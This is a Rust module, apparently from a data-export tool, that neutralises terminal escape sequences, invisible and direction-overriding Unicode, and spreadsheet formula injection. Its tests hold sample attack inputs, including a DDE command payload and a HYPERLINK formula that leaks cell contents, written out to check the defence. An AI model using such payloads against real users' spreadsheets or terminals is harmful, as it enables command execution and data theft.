//! Text of a file made safe where it leaves the program: on one line of a terminal or a window's title, and in a cell
//! of a table that a spreadsheet opens.
//!
//! Names, titles, ids and notes come from files that anybody may have written. A terminal obeys escape characters in
//! them, right-to-left overrides make them look like something else, and a spreadsheet runs what looks like a formula.

use std::borrow::Cow;

/// Text for one line of a terminal or a title: every control character, line and paragraph separator, directional
/// override and character in which unseen text can hide becomes a space.
pub fn line(text: &str) -> Cow<'_, str> {
    if text.contains(is_wild) { Cow::Owned(text.replace(is_wild, " ")) } else { Cow::Borrowed(text) }
}

/// Text for a cell of a spreadsheet: as [`line`], and what a spreadsheet would take for a formula begins with an
/// apostrophe, which makes it text. Numbers stay as they are.
pub fn cell(text: &str) -> Cow<'_, str> {
    if text.starts_with(starts_a_formula) && text.parse::<f64>().is_err() {
        Cow::Owned(format!("'{}", line(text)))
    } else {
        line(text)
    }
}

/// What steers a terminal, turns the direction of what follows, or is not seen and says something all the same.
///
/// Unseen characters that names are really written with stay, because the letters around them look otherwise without
/// them: the joiner and non-joiner of Persian and Indic names (U+200C, U+200D, also within emoji), the selectors of a
/// form of a letter (U+FE00 to U+FE0F, U+E0100 to U+E01EF, U+180B to U+180F) and the soft hyphen, which shows where a
/// word is broken. Tags make the flags of England, Scotland and Wales, which are lost here: any text hides in them.
fn is_wild(letter: char) -> bool {
    letter.is_control()
        || matches!(
            letter,
            // Separators of lines and paragraphs, marks and overrides of direction.
            '\u{2028}' | '\u{2029}' | '\u{061C}' | '\u{200E}' | '\u{200F}'
                | '\u{202A}'..='\u{202E}'
                // Word joiner, unseen operators, isolates of direction, and what Unicode has given up.
                | '\u{2060}'..='\u{206F}'
                // Blanks without width; the second is the mark of byte order.
                | '\u{200B}' | '\u{FEFF}'
                // Anchors of annotations, and the unassigned ones beside them that are never shown.
                | '\u{FFF0}'..='\u{FFFB}'
                // Controls of shorthand and of music.
                | '\u{1BCA0}'..='\u{1BCA3}' | '\u{1D173}'..='\u{1D17A}'
                // Tags, and the unassigned characters beside them and beside the selectors.
                | '\u{E0000}'..='\u{E00FF}' | '\u{E01F0}'..='\u{E0FFF}'
        )
}

/// What a spreadsheet takes for the beginning of a formula; tabs and line breaks are skipped on the way to one, and
/// some take the full-width signs too.
fn starts_a_formula(letter: char) -> bool {
    matches!(letter, '=' | '+' | '-' | '@' | '\t' | '\r' | '\n' | '＝' | '＋' | '－' | '＠')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_that_steers_a_terminal_or_turns_text_around_is_left() {
        assert_eq!(line("Bury\u{1b}[31m\u{7}\r\nno errors"), "Bury [31m   no errors");
        assert_eq!(line("\u{9b}2J\u{202e}yruB\u{2066}\u{2028}"), " 2J yruB  ");
        for wild in (0..=0x0010_FFFF).filter_map(char::from_u32).filter(|letter| is_wild(*letter)) {
            assert_eq!(line(&wild.to_string()), " ", "{wild:?}");
        }
    }

    #[test]
    fn text_that_is_not_seen_is_left_out_and_what_names_are_written_with_stays() {
        let unseen = ["\u{feff}", "\u{200b}", "\u{2060}", "\u{2063}", "\u{fff9}", "\u{fffb}", "\u{1d173}"];
        for unseen in unseen.into_iter().chain(["\u{e0001}", "\u{e0041}", "\u{e007f}", "\u{e0fff}"]) {
            assert_eq!(line(&format!("Bury{unseen}.")), "Bury .", "{unseen:?}");
            assert_eq!(cell(&format!("{unseen}=1+1")), " =1+1", "{unseen:?}");
        }
        for name in
            ["می\u{200c}خواهم", "ක්\u{200d}ෂ", "葛\u{e0100}城", "❤\u{fe0f}", "Green\u{ad}wich", "\u{fffd}"]
        {
            assert_eq!(line(name), name);
        }
    }

    #[test]
    fn plain_text_is_not_copied() {
        for text in ["", "Bury", "Ynys Môn – 12.2 %", "ქართული עברית العربية 日本語 👩‍👩‍👧"]
        {
            assert!(matches!(line(text), Cow::Borrowed(kept) if kept == text));
            assert!(matches!(cell(text), Cow::Borrowed(kept) if kept == text));
        }
    }

    #[test]
    fn what_looks_like_a_formula_is_text() {
        for formula in
            ["=HYPERLINK(\"http://x/\"&A1)", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "＝1+1", "+x"]
        {
            assert_eq!(cell(formula), format!("'{formula}"));
        }
        assert_eq!(cell("\t=1+1"), "' =1+1");
        assert_eq!(cell("\r=1+1"), "' =1+1");
    }

    #[test]
    fn numbers_and_ordinary_text_stay() {
        for text in ["-0.91", "+44", "-1e5", "12", "a=b", "–", "−0.4", "E92000001"] {
            assert_eq!(cell(text), text);
        }
    }
}
